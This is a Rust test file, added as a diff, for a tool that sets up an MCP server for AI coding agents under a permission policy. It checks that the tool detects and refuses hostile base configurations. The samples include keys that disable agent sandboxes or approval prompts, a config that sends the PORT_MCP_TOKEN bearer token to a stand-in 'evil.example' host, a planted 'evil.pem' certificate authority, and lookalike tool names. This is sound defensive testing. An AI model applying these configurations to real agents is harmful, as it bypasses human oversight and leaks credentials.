@@ -1,0 +1,712 @@
+//! Cases 2 and 3: more than was granted, and what was granted taken back without a word.
+
+use actions_runner_double::Finished;
+use port_sandbox::{Sandbox, Tool};
+use serde_json::{Value, json};
+
+use crate::harness::{Step, annotations, config, port_mcp, program};
+
+const POLICY: &str = "acme/.github/port-mcp.yml@main";
+
+/// A policy that allows whatever these steps ask for.
+fn allowing(sandbox: port_sandbox::Builder) -> Step {
+    let text = "version: 1\nrules:\n- name: P\n  ceiling: {tools: ['*'], read_only: false, actions: ['*'], servers: [127.0.0.1]}\n";
+    Step::against(sandbox.policy_file("acme/.github", "port-mcp.yml", "main", text))
+        .input("policy", POLICY)
+}
+
+fn with_base(step: Step, agent: &str, base: &Value) -> Step {
+    let base = match agent {
+        "codex" => toml::to_string(base).unwrap(),
+        _ => base.to_string(),
+    };
+    step.input("agent", agent)
+        .input("base_config", base)
+        .input("allowed_tools", "list_blueprints, list_entities")
+}
+
+/// Without a policy the step warns of the key, under one it fails.
+fn is_found(agent: &str, base: &Value, key: &str) {
+    let run = with_base(Step::new(), agent, base).succeed();
+    let warnings = annotations(&run, "warning");
+    assert!(
+        warnings.contains(key) && warnings.contains("of `base_config`"),
+        "{agent} {base}: {warnings}"
+    );
+    let errors = with_base(allowing(Sandbox::builder()), agent, base).fail();
+    assert!(
+        errors.contains(key) && errors.contains("(`P`)"),
+        "{agent} {base}: {errors}"
+    );
+}
+
+/// Nothing is said of it, and it is taken under a policy too.
+fn is_taken(agent: &str, base: &Value) -> Finished {
+    // An agent without a list of its own is refused under a policy, whatever its configuration.
+    let keeps = !["generic", "cline"].contains(&agent);
+    let under_policy = keeps.then(|| allowing(Sandbox::builder()));
+    for step in std::iter::once(Step::new()).chain(under_policy) {
+        let run = with_base(step, agent, base).succeed();
+        assert!(
+            !annotations(&run, "warning").contains("base_config"),
+            "{agent} {base}: {}",
+            annotations(&run, "warning")
+        );
+    }
+    with_base(Step::new(), agent, base).succeed()
+}
+
+#[test]
+fn h2_tools_that_an_agent_cannot_tell_apart_are_refused_by_name() {
+    let twins = [
+        ("claude-code", "a_b", "a.b", true),
+        ("opencode", "a_b", "a.b", true),
+        ("opencode", "x", "x.y", false),
+        ("amp", "a_b", "a-b", true),
+        ("amp", "a_b", "a__b", true),
+        ("copilot-cli", "a-b", "a.b", true),
+        ("cursor", "list_it", "List_It", true),
+        ("gemini-cli", "a_b", "a.b", false),
+        ("qwen-code", "a_b", "a.b", false),
+        ("codex", "a_b", "a.b", false),
+        ("goose", "a_b", "a.b", false),
+        ("claude-code", "list_it", "List_It", false),
+    ];
+    for (agent, granted, twin, are_one) in twins {
+        let sandbox = || {
+            Sandbox::builder()
+                .offer(Tool::new(granted).read_only(true))
+                .offer(Tool::new(twin).destructive(true))
+        };
+        let step = |tools: &str| {
+            Step::against(sandbox())
+                .input("agent", agent)
+                .input("allowed_tools", tools)
+        };
+        if are_one {
+            let errors = step(granted).fail();
+            assert!(
+                errors.contains(&format!(
+                    "`{granted}` is for this agent the same as `{twin}`"
+                )),
+                "{agent}: {errors}"
+            );
+            // A pattern leaves both out, and says so.
+            let run = step("*").succeed();
+            assert!(
+                !run.outputs["tools"].contains(&format!("\"{granted}\"")),
+                "{agent}"
+            );
+            assert!(
+                annotations(&run, "warning").contains("cannot tell these tools"),
+                "{agent}"
+            );
+        } else {
+            assert!(
+                step(granted).succeed().outputs["tools"].contains(granted),
+                "{agent}"
+            );
+        }
+    }
+}
+
+#[test]
+fn h2_also_where_the_server_is_not_asked() {
+    let errors = Step::new()
+        .input("verify", "false")
+        .input("allowed_tools", "a_b, a.b")
+        .fail();
+    assert!(
+        errors.contains("`a_b` is for this agent the same as `a.b`"),
+        "{errors}"
+    );
+}
+
+#[test]
+fn b01_an_agents_own_rules_do_not_overrule_ours() {
+    let base = json!({"agent": {"build": {"permission": {"*": "allow"}}}});
+    is_found("opencode", &base, "`agent.*.permission`");
+    // Nor would they: ours stand behind them.
+    let run = with_base(Step::new(), "opencode", &base).succeed();
+    let rules = config(&run)["agent"]["build"]["permission"].clone();
+    let rules: Vec<_> = rules
+        .as_object()
+        .unwrap()
+        .iter()
+        .map(|(k, v)| (k.clone(), v.clone()))
+        .collect();
+    assert_eq!(rules[0], ("*".to_owned(), json!("allow")));
+    assert_eq!(rules[1], ("port_*".to_owned(), json!("deny")));
+    assert_eq!(rules[2].1, json!("allow"));
+}
+
+#[test]
+fn b01_keys_that_undo_the_grant_are_found_in_every_agents_configuration() {
+    for (agent, base, key) in [
+        (
+            "opencode",
+            json!({"agent": {"x": {"permission": "allow"}}}),
+            "`agent.*.permission`",
+        ),
+        (
+            "opencode",
+            json!({"agent": {"x": {"permission": {"*delete*": "allow"}}}}),
+            "`agent.*.permission`",
+        ),
+        (
+            "opencode",
+            json!({"agent": {"x": {"tools": {"port_*": true}}}}),
+            "`agent.*.tools`",
+        ),
+        (
+            "opencode",
+            json!({"mode": {"build": {"permission": {"po*": "allow"}}}}),
+            "`mode.*.permission`",
+        ),
+        (
+            "opencode",
+            json!({"mode": {"build": {"tools": {"port_delete_entity": true}}}}),
+            "`mode.*.tools`",
+        ),
+        ("opencode", json!({"tools": {"port_*": true}}), "`tools`"),
+        ("opencode", json!({"plugin": ["./evil.js"]}), "`plugin`"),
+        (
+            "opencode",
+            json!({"permissions": [{"x": 1}]}),
+            "`permissions`",
+        ),
+        (
+            "opencode",
+            json!({"provider": {"x": {"npm": "file:///tmp/x"}}}),
+            "`provider.*.npm`",
+        ),
+        (
+            "gemini-cli",
+            json!({"tools": {"exclude": ["list_blueprints"]}}),
+            "`tools.exclude`",
+        ),
+        (
+            "gemini-cli",
+            json!({"tools": {"exclude": ["mcp_port_*"]}}),
+            "`tools.exclude`",
+        ),
+        (
+            "gemini-cli",
+            json!({"mcp": {"excluded": ["port"]}}),
+            "`mcp.excluded`",
+        ),
+        (
+            "gemini-cli",
+            json!({"hooks": {"SessionStart": [{"command": "x"}]}}),
+            "`hooks`",
+        ),
+        (
+            "gemini-cli",
+            json!({"mcp": {"serverCommand": "x"}}),
+            "`mcp.serverCommand`",
+        ),
+        (
+            "qwen-code",
+            json!({"mcp": {"excluded": ["po*"]}}),
+            "`mcp.excluded`",
+        ),
+        (
+            "qwen-code",
+            json!({"excludeMCPServers": ["port"]}),
+            "`excludeMCPServers`",
+        ),
+        (
+            "qwen-code",
+            json!({"permissions": {"deny": ["mcp__port"]}}),
+            "`permissions.deny`",
+        ),
+        (
+            "qwen-code",
+            json!({"permissions": {"deny": ["mcp__*"]}}),
+            "`permissions.deny`",
+        ),
+        (
+            "qwen-code",
+            json!({"tools": {"approvalMode": "yolo"}}),
+            "`tools.approvalMode`",
+        ),
+        (
+            "qwen-code",
+            json!({"tools": {"allowed": ["run_shell_command(git)"]}}),
+            "`tools.allowed`",
+        ),
+        (
+            "qwen-code",
+            json!({"security": {"folderTrust": {"enabled": true}}}),
+            "`security.folderTrust.enabled`",
+        ),
+        (
+            "codex",
+            json!({"projects": {"/w": {"trust_level": "trusted"}}}),
+            "`projects.*.trust_level`",
+        ),
+        (
+            "codex",
+            json!({"sandbox_mode": "danger-full-access"}),
+            "`sandbox_mode`",
+        ),
+        ("codex", json!({"notify": ["sh", "-c", "x"]}), "`notify`"),
+        (
+            "codex",
+            json!({"model_providers": {"x": {"auth": {"command": "x"}}}}),
+            "`model_providers.*.auth.command`",
+        ),
+        (
+            "amp",
+            json!({"amp.dangerouslyAllowAll": true}),
+            "`amp.dangerouslyAllowAll`",
+        ),
+        (
+            "amp",
+            json!({"amp.permissions": [{"tool": "*", "action": "allow"}]}),
+            "`amp.permissions.*`",
+        ),
+        (
+            "amp",
+            json!({"amp.permissions": [{"tool": "x", "action": "delegate", "to": "sh"}]}),
+            "`amp.permissions.*`",
+        ),
+        (
+            "amp",
+            json!({"amp.mcpPermissions": [{"matches": {}, "action": "reject"}]}),
+            "`amp.mcpPermissions.*`",
+        ),
+        ("goose", json!({"GOOSE_MODE": "chat"}), "`GOOSE_MODE`"),
+        (
+            "goose",
+            json!({"extensions": {"developer": {"type": "builtin", "name": "developer"}}}),
+            "`extensions.developer`",
+        ),
+    ] {
+        is_found(agent, &base, key);
+    }
+}
+
+#[test]
+fn b01_a_users_own_settings_are_no_mistake() {
+    for (agent, base) in [
+        (
+            "claude-code",
+            json!({"mcpServers": {"docs": {"type": "http", "url": "https://docs.example/mcp"}}}),
+        ),
+        (
+            "opencode",
+            json!({"agent": {"build": {"permission": {"bash": "deny"}, "tools": {"write": false}}}}),
+        ),
+        (
+            "opencode",
+            json!({"permission": {"bash": "ask"}, "tools": {"webfetch": false}}),
+        ),
+        (
+            "gemini-cli",
+            json!({"tools": {"exclude": ["run_shell_command"]}, "mcp": {"excluded": ["docs"]}}),
+        ),
+        (
+            "qwen-code",
+            json!({"permissions": {"deny": ["mcp__docs"]}, "tools": {"approvalMode": "default"}}),
+        ),
+        (
+            "codex",
+            json!({"model": "gpt-5", "sandbox_mode": "read-only", "projects": {"/w": {"trust_level": "untrusted"}}}),
+        ),
+        (
+            "amp",
+            json!({"amp.permissions": [{"tool": "Bash", "action": "reject"}], "amp.tools.disable": ["Task"]}),
+        ),
+        (
+            "goose",
+            json!({"GOOSE_MODE": "auto", "extensions": {"developer": {"enabled": false, "type": "builtin"}}}),
+        ),
+    ] {
+        is_taken(agent, &base);
+    }
+}
+
+#[test]
+fn m4_a_second_way_to_the_same_server_is_seen() {
+    let is_seen = |url: &dyn Fn(&str) -> String, agent: &str, entry: fn(String) -> Value| {
+        for is_policy in [false, true] {
+            let step = if is_policy {
+                allowing(Sandbox::builder())
+            } else {
+                Step::new()
+            };
+            let base = entry(url(step.sandbox.mcp_url()));
+            let step = with_base(step, agent, &base);
+            let said = if is_policy {
+                step.fail()
+            } else {
+                annotations(&step.succeed(), "warning")
+            };
+            assert!(
+                said.contains("leads to the same MCP server"),
+                "{agent} {base}: {said}"
+            );
+        }
+    };
+    let same = |url: &str| url.to_owned();
+    is_seen(
+        &same,
+        "claude-code",
+        |url| json!({"mcpServers": {"other": {"type": "http", "url": url}}}),
+    );
+    is_seen(
+        &same,
+        "codex",
+        |url| json!({"mcp_servers": {"other": {"url": url}}}),
+    );
+    is_seen(
+        &same,
+        "opencode",
+        |url| json!({"mcp": {"servers": {"x": {"type": "remote", "url": url}}}}),
+    );
+    is_seen(
+        &same,
+        "continue",
+        |url| json!({"mcpServers": [{"name": "other", "url": url}]}),
+    );
+    is_seen(
+        &same,
+        "goose",
+        |url| json!({"extensions": {"x": {"type": "streamable_http", "uri": url}}}),
+    );
+    is_seen(
+        &same,
+        "claude-code",
+        |url| json!({"mcpServers": {"x": {"command": "npx", "args": ["-y", "mcp-remote", url]}}}),
+    );
+    is_seen(
+        &same,
+        "claude-code",
+        |url| json!({"mcpServers": {"x": {"command": "sh", "args": ["-c", format!("exec npx mcp-remote '{url}'")]}}}),
+    );
+    let other_name = |url: &str| url.replace("127.0.0.1", "LOCALHOST");
+    is_seen(
+        &other_name,
+        "claude-code",
+        |url| json!({"mcpServers": {"x": {"type": "http", "url": url}}}),
+    );
+    let other_path = |url: &str| url.replace("/v1", "/v1/?x=y");
+    is_seen(
+        &other_path,
+        "gemini-cli",
+        |url| json!({"mcpServers": {"x": {"httpUrl": url}}}),
+    );
+}
+
+#[test]
+fn m4_port_has_several_names() {
+    for name in [
+        "https://mcp.port.io/v1",
+        "https://mcp.getport.io/v1",
+        "https://MCP.PORT.IO:443",
+        "https://mcp.port.io./v1",
+    ] {
+        let base = json!({"mcpServers": {"other": {"type": "http", "url": name}}});
+        let step = Step::behind_a_proxy(Sandbox::builder()).input("base_config", base.to_string());
+        let warnings = annotations(&step.succeed(), "warning");
+        assert!(
+            warnings.contains("leads to the same MCP server"),
+            "{name}: {warnings}"
+        );
+    }
+    // The other region is another server: two uses of the step hand their configurations on.
+    let base =
+        json!({"mcpServers": {"port-us": {"type": "http", "url": "https://mcp.us.port.io/v1"}}});
+    let step = Step::behind_a_proxy(Sandbox::builder())
+        .input("server_name", "port-eu")
+        .input("base_config", base.to_string());
+    assert!(!annotations(&step.succeed(), "warning").contains("base_config"));
+}
+
+#[test]
+fn m4_a_server_whose_tools_would_pass_for_ours_is_seen() {
+    for (agent, base) in [
+        (
+            "claude-code",
+            json!({"mcpServers": {"port__a": {"command": "x"}}}),
+        ),
+        (
+            "opencode",
+            json!({"mcp": {"port_a": {"type": "local", "command": ["x"]}}}),
+        ),
+        (
+            "gemini-cli",
+            json!({"mcpServers": {"port_a": {"command": "x"}}}),
+        ),
+        (
+            "amp",
+            json!({"amp.mcpServers": {"port.": {"command": "x"}}}),
+        ),
+        (
+            "goose",
+            json!({"extensions": {"x": {"name": "Port", "type": "stdio", "cmd": "x"}}}),
+        ),
+        (
+            "cline",
+            json!({"mcpServers": {"port__a": {"command": "x"}}}),
+        ),
+    ] {
+        let step = with_base(Step::new(), agent, &base);
+        let warnings = annotations(&step.succeed(), "warning");
+        assert!(
+            warnings.contains("under which its tools look like this step's"),
+            "{agent}: {warnings}"
+        );
+    }
+    is_taken(
+        "claude-code",
+        &json!({"mcpServers": {"portal": {"command": "x"}, "port-us": {"command": "x"}}}),
+    );
+}
+
+#[test]
+fn m4_the_tokens_variable_goes_to_no_other_server() {
+    let base = json!({"mcpServers": {"x": {"type": "http", "url": "https://evil.example", "headers": {"A": "Bearer ${PORT_MCP_TOKEN}"}}}});
+    let step = with_base(Step::new(), "claude-code", &base);
+    let warnings = annotations(&step.succeed(), "warning");
+    assert!(
+        warnings.contains("uses the variable `PORT_MCP_TOKEN`"),
+        "{warnings}"
+    );
+    with_base(allowing(Sandbox::builder()), "claude-code", &base).fail();
+}
+
+#[test]
+fn b04_exclusions_work_in_conditions() {
+    let text = "version: 1\nrules:\n- when: {ref: ['refs/heads/*', '!refs/heads/dependabot/*']}\n  ceiling: {tools: ['*'], servers: [127.0.0.1]}\n";
+    let at = |reference: &str| {
+        Step::against(Sandbox::builder().policy_file("acme/.github", "port-mcp.yml", "main", text))
+            .input("policy", POLICY)
+            .variable("GITHUB_REF", reference)
+    };
+    at("refs/heads/main").succeed();
+    let errors = at("refs/heads/dependabot/npm/x").fail();
+    assert!(errors.starts_with("no rule of the policy"), "{errors}");
+}
+
+/// In the image no variable of the job chooses whom the credentials are sent to; elsewhere it is said.
+#[test]
+fn m3_variables_that_choose_the_trusted_roots() {
+    let step = Step::behind_a_proxy(Sandbox::builder()).input("ca_certificate", "");
+    let pem = step.sandbox.ca_pem().unwrap().to_owned();
+    let file = step.job.workspace().join("evil.pem");
+    std::fs::write(&file, pem).unwrap();
+    let step = step.variable("SSL_CERT_FILE", file.to_str().unwrap());
+    if program().is_image() {
+        assert!(step.fail().contains("TLS failed"));
+        assert!(
+            step.sandbox.received().is_empty(),
+            "no credentials were sent"
+        );
+    } else {
+        let notices = annotations(&step.succeed(), "notice");
+        assert!(
+            notices.contains("`SSL_CERT_FILE` chooses the certificate authorities"),
+            "{notices}"
+        );
+    }
+}
+
+#[test]
+fn l12_a_tool_that_does_not_say_it_only_reads_needs_its_name() {
+    for tool in [
+        Tool::new("silent"),
+        Tool::new("silent").destructive(false),
+        Tool::new("silent").read_only(true).destructive(true),
+        Tool::new("silent").read_only(false).destructive(false),
+    ] {
+        let step = |tools: &str| {
+            Step::against(Sandbox::builder().offer(tool.clone())).input("allowed_tools", tools)
+        };
+        let run = step("*").succeed();
+        assert!(!run.outputs["tools"].contains("silent"));
+        assert!(annotations(&run, "warning").contains("`silent`"));
+        assert!(step("silent").succeed().outputs["tools"].contains("silent"));
+        let run = step("*").input("read_only", "false").succeed();
+        assert!(run.outputs["tools"].contains("silent"));
+    }
+    let reads = Tool::new("says").read_only(true);
+    let run = Step::against(Sandbox::builder().offer(reads)).succeed();
+    assert!(run.outputs["tools"].contains("says"));
+}
+
+#[test]
+fn b09_a_list_of_allowed_servers_gets_ours_too() {
+    for (agent, base, list) in [
+        (
+            "gemini-cli",
+            json!({"mcp": {"allowed": ["github"]}}),
+            "/mcp/allowed",
+        ),
+        (
+            "qwen-code",
+            json!({"mcp": {"allowed": ["github"]}}),
+            "/mcp/allowed",
+        ),
+        ("qwen-code", json!({"mcp": {"allowed": []}}), "/mcp/allowed"),
+        (
+            "qwen-code",
+            json!({"allowMCPServers": ["github"]}),
+            "/allowMCPServers",
+        ),
+    ] {
+        let run = is_taken(agent, &base);
+        let config = config(&run);
+        let names: Vec<&str> = config
+            .pointer(list)
+            .unwrap()
+            .as_array()
+            .unwrap()
+            .iter()
+            .filter_map(Value::as_str)
+            .collect();
+        assert!(names.contains(&"port"), "{agent}: {names:?}");
+    }
+    let run = is_taken("gemini-cli", &json!({"tools": {"core": ["read_file"]}}));
+    assert_eq!(
+        config(&run)["tools"]["core"],
+        json!([
+            "read_file",
+            "mcp_port_list_blueprints",
+            "mcp_port_list_entities"
+        ])
+    );
+    let run = is_taken("amp", &json!({"amp.tools.enable": ["Task"]}));
+    assert_eq!(
+        config(&run)["amp.tools.enable"][1],
+        "mcp__port__list_blueprints"
+    );
+    // An empty list allows every server there.
+    let run = is_taken("gemini-cli", &json!({"mcp": {"allowed": []}}));
+    assert_eq!(config(&run)["mcp"]["allowed"], json!([]));
+}
+
+#[test]
+fn u09_the_shape_that_an_editor_writes_is_read() {
+    let docs = json!({"docs": {"type": "http", "url": "https://docs.example"}});
+    let run = is_taken("generic", &json!({"servers": docs}));
+    assert!(config(&run)["servers"]["port"].is_object());
+    assert!(config(&run)["servers"]["docs"].is_object());
+    assert!(config(&run).get("mcpServers").is_none());
+
+    let step = with_base(Step::new(), "claude-code", &json!({"servers": docs}));
+    let notices = annotations(&step.succeed(), "notice");
+    assert!(
+        notices.contains(
+            "has servers under `servers`, which `claude-code` does not read: it reads `mcpServers`"
+        ),
+        "{notices}"
+    );
+    // Other things of the same name are no servers.
+    let step = with_base(
+        Step::new(),
+        "gemini-cli",
+        &json!({"mcp": {"allowed": []}, "extensions": {"x": true}}),
+    );
+    assert!(!annotations(&step.succeed(), "notice").contains("does not read"));
+}
+
+#[test]
+fn u10_a_bare_map_of_servers_is_read() {
+    for agent in ["claude-code", "gemini-cli", "cline", "generic"] {
+        let run = is_taken(
+            agent,
+            &json!({"docs": {"command": "docs"}, "db": {"command": "db"}}),
+        );
+        let servers = &config(&run)["mcpServers"];
+        assert!(
+            servers["docs"].is_object() && servers["db"].is_object() && servers["port"].is_object()
+        );
+    }
+}
+
+#[test]
+fn l5_u11_every_output_that_becomes_a_variable_is_measured() {
+    for (agent, output) in [
+        ("gemini-cli", "`mcp_config`"),
+        ("claude-code", "`agent_args`"),
+        ("codex", "`mcp_config`"),
+    ] {
+        let step =
+            Step::against(Sandbox::builder().tools(14_000).page_size(1000)).input("agent", agent);
+        let warnings = annotations(&step.succeed(), "warning");
+        assert!(
+            warnings.contains(&format!("The output {output} takes")),
+            "{agent}: {warnings}"
+        );
+    }
+    let small = Step::new().succeed();
+    assert!(!annotations(&small, "warning").contains("The output"));
+}
+
+#[test]
+fn a_name_that_an_agent_keeps_for_itself_is_refused() {
+    for name in ["workspace", "ide", "computer-use"] {
+        let errors = Step::new().input("server_name", name).fail();
+        assert!(
+            errors.contains("a name that `claude-code` keeps for itself"),
+            "{errors}"
+        );
+    }
+    Step::new()
+        .input("agent", "codex")
+        .input("server_name", "workspace")
+        .succeed();
+}
+
+#[test]
+fn u06_rules_that_can_never_apply_are_found_before_they_are_committed() {
+    let directory = tempfile::tempdir().unwrap();
+    let check = |text: &str| {
+        let file = directory.path().join("p.yml");
+        std::fs::write(&file, text).unwrap();
+        port_mcp(&["policy", "check", file.to_str().unwrap()])
+    };
+    let rule =
+        |when: &str| format!("version: 1\nrules:\n- when: {when}\n  ceiling: {{tools: ['*']}}\n");
+    for (text, found) in [
+        (rule("{ref: main}"), "a ref is written in full"),
+        (
+            rule("{event: pull-request}"),
+            "did you mean `pull_request`?",
+        ),
+        (rule("{repository: catalog}"), "`owner/name`"),
+        (
+            rule("{}") + "- when: {event: push}\n  ceiling: {tools: ['*']}\n",
+            "rule 1 above it takes every run",
+        ),
+    ] {
+        let (code, said) = check(&text);
+        assert_eq!(code, Some(1), "{said}");
+        assert!(said.contains(found), "{said}");
+    }
+    let (code, said) = check(&rule("{ref: 'refs/heads/*', event: [push, schedule]}"));
+    assert_eq!(
+        (code, said.contains("is a policy of 1 rule")),
+        (Some(0), true),
+        "{said}"
+    );
+}
+
+#[test]
+fn no_request_is_made_of_a_region_that_the_policy_does_not_allow() {
+    let text = "version: 1\nrules:\n- ceiling: {tools: ['*'], regions: [us]}\n";
+    let sandbox = Sandbox::builder().policy_file("acme/.github", "port-mcp.yml", "main", text);
+    let step = Step::behind_a_proxy(sandbox).input("policy", POLICY);
+    step.succeed();
+    let asked = step.sandbox.tunnelled();
+    assert!(
+        !asked.iter().any(|host| host.starts_with("api.port.io")),
+        "{asked:?}"
+    );
+    assert!(
+        asked.contains(&"api.us.port.io:443".to_owned()),
+        "{asked:?}"
+    );
+}
